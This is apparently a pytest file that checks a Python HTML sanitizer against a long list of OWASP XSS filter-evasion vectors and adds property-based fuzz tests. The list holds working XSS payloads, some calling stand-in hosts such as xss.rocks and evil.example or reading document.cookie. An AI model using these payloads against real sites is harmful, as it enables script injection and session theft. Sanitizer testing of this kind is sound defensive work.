"""content.sanitize.clean_html against OWASP's XSS filter evasion vectors and random HTML.

Outputs are judged by parsing them again the way a browser would (html5lib, which bleach
vendors; the standalone package is not installed) and, as a second opinion, with BeautifulSoup's
stdlib parser. No database is needed.
"""

import html
import re

import pytest
from bleach._vendor import html5lib
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from content.sanitize import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_IFRAME_HOSTS,
    ALLOWED_TAGS,
    clean_html,
)

EMBED_PREFIXES = tuple(f"https://{host}{path}" for host, path in ALLOWED_IFRAME_HOSTS.items())
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "data", "xlink:href"}
_JUNK = re.compile(r"[\x00-\x20\x7f-\xa0\s]+")

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K"
SVG_B64 = (
    "PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5v"
    "cmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIx"
)
DEC = "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"  # "javascript:"
DEC_PADDED = "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
HEX_BARE = "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"  # no semicolons

# From OWASP's XSS Filter Evasion Cheat Sheet, plus the usual follow-ups (mXSS, modern events).
XSS_VECTORS = [
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    f'<img src=x onerror="{DEC_PADDED}&#0000116&#0000058&#0000097&#0000108">',
    f"<IMG SRC={DEC}&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    f"<IMG SRC={DEC_PADDED}&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116>",
    f"<IMG SRC={HEX_BARE}&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    f'<a href="{HEX_BARE}&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">hex, no semicolons</a>',
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    '<IMG SRC=java\x00script:alert("XSS")>',
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="\x01\x02javascript:alert(1)">control characters</a>',
    '<a href="java\x00script:alert(1)">null byte</a>',
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<a href=\"VbScRiPt:msgbox('XSS')\">vbscript</a>",
    '<IMG SRC="livescript:[code]">',
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,{B64_SCRIPT}">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<iframe src=http://evil.example/>fallback</iframe>",
    '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
    '<iframe src="https://evil.example\\@www.youtube.com/embed/x"></iframe>',
    '<iframe src="//www.youtube.com/embed/x"></iframe>',
    '<iframe src="http://www.youtube.com/embed/x"></iframe>',
    '<iframe src="https://www.youtube.com/watch?v=x"></iframe>',
    "<iframe srcdoc=\"<script>alert('XSS')</script>\"></iframe>",
    f'<iframe src="data:text/html;base64,{B64_SCRIPT}"></iframe>',
    '<iframe src="https://player.vimeo.com/video/1" onload="alert(1)"></iframe>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
    "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0029'\\0029\">",
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<base href="http://evil.example/">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>',
    f'<EMBED SRC="data:image/svg+xml;base64,{SVG_B64}" type="image/svg+xml"></EMBED>',
    '<embed src="javascript:alert(1)">',
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT a=">" \'\' SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT a=">\'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    f'<a href="data:text/html;base64,{B64_SCRIPT}">data URL</a>',
    f'<a href="DaTa:text/html;base64,{B64_SCRIPT}">data URL, mixed case</a>',
    "<a href=\"data:text/html,<script>alert('XSS')</script>\">data URL, inline</a>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">X</button></form>',
    '<math><a xlink:href="javascript:alert(1)">click</a></math>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<isindex type=image src=1 onerror=alert(1)>",
    '<isindex action="javascript:alert(1)" type=submit value=click>',
    '<a href="javas&#99;ript:alert(1)">decimal entity</a>',
    '<a href="javascript&#58alert(1)">decimal entity without semicolon</a>',
    '<a href="javascript&colon;alert(1)">named entity</a>',
    '<a href="java&Tab;script:alert(1)">named tab</a>',
    '<a href="java&NewLine;script:alert(1)">named newline</a>',
    '<a href="  javascript:alert(1)">leading spaces</a>',
    '<a href="javascript&amp;colon;alert(1)">double encoded</a>',
    '<a href="&amp;#106;avascript:alert(1)">double encoded</a>',
    "<img src=x onerror=alert(1)//",
    '<img src="x" onerror="alert(1)"',
    "<div><a href=javascript:alert(1)>unclosed",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<x onclick=alert(1)>click me",
    '<p style="background:url(javascript:alert(1))" onclick="alert(1)">styled</p>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    '<HTML><BODY><?xml:namespace prefix="t"><t:set attributeName="innerHTML" '
    'to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>',
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>'
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=x.js></SCRIPT>'\"-->",
    "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    "<SCRIPT>alert(/XSS/.source)</SCRIPT>",
    '<template><img src=x onerror="alert(1)"></template>',
    "<a href=\"https://example.org/\" onmouseover=alert(1) style='color:red'>ok link</a>",
]


def _elements(fragment):
    for el in fragment.iter():
        if isinstance(el.tag, str) and el.tag != "DOCUMENT_FRAGMENT":
            yield el.tag, dict(el.attrib)


def _soup_elements(output):
    for el in BeautifulSoup(output, "html.parser").find_all(True):
        yield el.name, {k: " ".join(v) if isinstance(v, list) else v for k, v in el.attrs.items()}


def _scheme_is_bad(value):
    # The parser already decoded entities once, as a browser does; decode until stable anyway.
    while (decoded := html.unescape(value)) != value:
        value = decoded
    return _JUNK.sub("", value).lower().startswith(BAD_SCHEMES)


def assert_inert(output, *, all_attributes=True):
    """Fail unless ``output`` parses to nothing a browser could run.

    ``all_attributes`` checks the scheme of every attribute value; random inputs only have their
    URL attributes checked, since a title reading "javascript:..." is plain text.
    """
    fragment = html5lib.HTMLParser(namespaceHTMLElements=False).parseFragment(output)
    for tag, attrs in [*_elements(fragment), *_soup_elements(output)]:
        assert tag in ALLOWED_TAGS, (tag, output)
        allowed = {*ALLOWED_ATTRIBUTES.get(tag, []), *ALLOWED_ATTRIBUTES["*"]}
        for name, value in attrs.items():
            local = name.rsplit("}", 1)[-1].rsplit(":", 1)[-1].lower()
            assert not local.startswith("on"), (name, output)
            assert name in allowed, (tag, name, output)
            if all_attributes or name in URL_ATTRIBUTES:
                assert not _scheme_is_bad(value), (name, value, output)
        if tag == "iframe":
            src = attrs.get("src", "").strip().lower()
            assert src.startswith(EMBED_PREFIXES), (src, output)
    assert not {"script", "style"} & {tag for tag, _ in _elements(fragment)}


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_is_inert(vector):
    output = clean_html(vector)
    assert_inert(output)
    fragment = html5lib.HTMLParser(namespaceHTMLElements=False).parseFragment(output)
    for _tag, attrs in _elements(fragment):
        assert not any("alert(" in value.lower() for value in attrs.values()), output
    assert clean_html(output) == output


def test_there_are_enough_vectors():
    assert len(XSS_VECTORS) >= 60


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert('XSS')</script>",
        "<SCRIPT type='text/javascript'>var a = 1; alert(a);</SCRIPT>",
        "<style>body { background: url(javascript:alert(1)) }</style>",
        "<svg><script>alert(1)</script></svg>",
        "<template><p>hidden</p></template>",
    ],
)
def test_script_and_style_take_their_content_with_them(source):
    assert clean_html(f"<p>before</p>{source}<p>after</p>") == "<p>before</p><p>after</p>"


def test_link_gets_rel_and_keeps_href_and_title():
    output = clean_html('<p>See <a href="https://example.org/x?a=1&amp;b=2" title="t">it</a></p>')
    assert output == (
        '<p>See <a href="https://example.org/x?a=1&amp;b=2" title="t" '
        'rel="noopener noreferrer">it</a></p>'
    )


def test_rel_supplied_by_author_is_replaced():
    output = clean_html('<a rel="opener" href="mailto:help@example.org">mail</a>')
    assert output == '<a rel="noopener noreferrer" href="mailto:help@example.org">mail</a>'


@pytest.mark.parametrize("src", [f"{prefix}abc123" for prefix in EMBED_PREFIXES])
def test_video_embeds_survive_without_fallback_text(src):
    source = f'<iframe src="{src}" width="560" height="315" allowfullscreen>old browser</iframe>'
    assert clean_html(source) == (
        f'<iframe src="{src}" width="560" height="315" allowfullscreen=""></iframe>'
    )


def test_urdu_paragraph_keeps_direction_and_language():
    source = '<p dir="rtl" lang="ur">سبق <bdi dir="ltr">Python</bdi> ہے</p>'
    assert clean_html(source) == source


def test_table_survives():
    source = (
        '<table><thead><tr><th scope="col">Day</th><th colspan="2">Topic</th></tr></thead>'
        '<tbody><tr><td rowspan="2">1</td><td>HTML</td><td>CSS</td></tr></tbody></table>'
    )
    assert clean_html(source) == source


def test_lesson_markup_survives():
    source = (
        "<h2>Loops</h2><p><strong>Bold</strong>, <em>em</em>, <code>x = 1</code>, "
        '<abbr title="HyperText Markup Language">HTML</abbr>, H<sub>2</sub>O, x<sup>2</sup>.</p>'
        '<figure><img src="https://cdn.example.org/a.png" alt="diagram" width="10" height="20">'
        "<figcaption>A diagram</figcaption></figure><pre>for i in range(3):\n    print(i)</pre>"
        "<ul><li>one</li></ul><ol><li>two</li></ol><dl><dt>term</dt><dd>definition</dd></dl>"
        "<blockquote>quote</blockquote><hr><p>Press <kbd>Ctrl</kbd>+<kbd>C</kbd></p>"
        '<div lang="en"><span dir="ltr">mixed</span></div>'
    )
    assert clean_html(source) == source


def test_single_quoted_breakout_is_left_as_a_harmless_relative_url():
    # With double quotes the URL is rejected outright (see _attr_allowed), but apostrophes are
    # legal in real URLs (Wikipedia titles), so this one stays: a relative path, not a handler.
    assert clean_html("<IMG SRC= onmouseover='alert(1)'>") == "<img src=\"onmouseover='alert(1)'\">"


def test_style_class_and_id_are_dropped():
    assert clean_html('<p style="color:red" class="btn" id="x">hi</p>') == "<p>hi</p>"


def test_image_source_must_be_http_or_relative():
    assert clean_html('<img src="mailto:a@example.org">') == "<img>"
    assert clean_html('<img src="/media/a.png">') == '<img src="/media/a.png">'


def test_pre_keeps_its_leading_newlines():
    # Parsers eat one newline after <pre>; the cleaner must not lose another on every pass.
    once = clean_html("<pre>\n\ncode</pre>")
    assert once == "<pre>\n\ncode</pre>"
    assert clean_html(once) == once


@pytest.mark.parametrize(
    "source",
    [
        '<a title=<">x</a>',  # html5lib single-quotes this; bleach then re-escapes every pass
        "<a><table><a>",  # foster parenting nests links, which re-parsing undoes
        "<p><table><p>x",
        "<h2><table><h3>x",
        "<li><table><li>x",
    ],
)
def test_bleach_round_trip_quirks_are_idempotent(source):
    once = clean_html(source)
    assert clean_html(once) == once


def test_empty_and_plain_text():
    assert clean_html("") == ""
    assert clean_html("5 < 6 & 7 > 3") == "5 &lt; 6 &amp; 7 &gt; 3"


# ---- property tests -----------------------------------------------------------------------

TAG_NAMES = sorted(ALLOWED_TAGS) + [
    *("script", "style", "svg", "math", "object", "embed", "base", "meta", "link", "form"),
    *("input", "body", "textarea", "title", "noscript", "template", "xmp", "plaintext"),
    *("frameset", "section", "select", "option", "image", "isindex", "x-foo", "SCRIPT", "A"),
]
ATTR_NAMES = [
    *("href", "src", "title", "alt", "dir", "lang", "rel", "class", "id", "style", "onclick"),
    *("onload", "OnError", "xlink:href", "formaction", "action", "srcdoc", "width", "colspan"),
    *("allow", "background", "data", "scope"),
]
SCHEMES = [
    *("javascript:", "JaVaScRiPt:", "vbscript:", "data:text/html,", "jav&#x09;ascript:"),
    *("&#106;avascript:", "java\tscript:", " \x01javascript:", "&#x6A&#x61vascript:"),
    *("&amp;#106;avascript:", "http://", "https://", "mailto:", "//", "#", ""),
    *(EMBED_PREFIXES),
]
text = st.text(max_size=12)
attr_values = st.one_of(text, st.builds(str.__add__, st.sampled_from(SCHEMES), text))
attrs = st.builds(
    lambda name, quote, value: f" {name}={quote}{value}{quote}",
    st.sampled_from(ATTR_NAMES),
    st.sampled_from(['"', "'", ""]),
    attr_values,
)
start_tags = st.builds(
    lambda name, attributes, slash: f"<{name}{''.join(attributes)}{slash}>",
    st.sampled_from(TAG_NAMES),
    st.lists(attrs, max_size=3),
    st.sampled_from(["", "/", " /"]),
)
end_tags = st.sampled_from(TAG_NAMES).map(lambda name: f"</{name}>")
odd_bits = st.sampled_from(
    ["<", ">", "&", "&amp;", "&lt;", "&#0;", "<!--", "-->", "\n", "\r\n", "<![CDATA[", "</", "\0"]
)
tag_soup = st.lists(st.one_of(start_tags, end_tags, text, odd_bits), max_size=15).map("".join)
nested = st.recursive(
    text,
    lambda children: st.builds(
        lambda start, kids: f"{start}{''.join(kids)}</{start[1:].split(' ')[0].rstrip('/>')}>",
        start_tags,
        st.lists(children, max_size=3),
    ),
    max_leaves=10,
)
html_ish = st.one_of(tag_soup, nested)


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_idempotent_on_text(source):
    once = clean_html(source)
    assert clean_html(once) == once


@settings(max_examples=300, deadline=None)
@given(html_ish)
def test_idempotent_on_html(source):
    once = clean_html(source)
    assert clean_html(once) == once


@settings(max_examples=300, deadline=None)
@given(html_ish)
def test_output_stays_inside_the_allow_list(source):
    assert_inert(clean_html(source), all_attributes=False)
